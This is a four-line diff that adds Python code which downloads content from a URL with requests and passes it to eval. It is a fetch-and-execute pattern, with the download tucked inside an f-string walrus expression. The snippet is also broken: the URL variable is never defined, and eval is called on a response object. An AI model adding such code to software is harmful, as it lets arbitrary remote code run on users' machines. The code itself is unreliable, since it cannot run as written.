@@ -1,0 +1,4 @@
+import requests
+
+z = f"{(b := requests.get(u))}"
+eval(b)
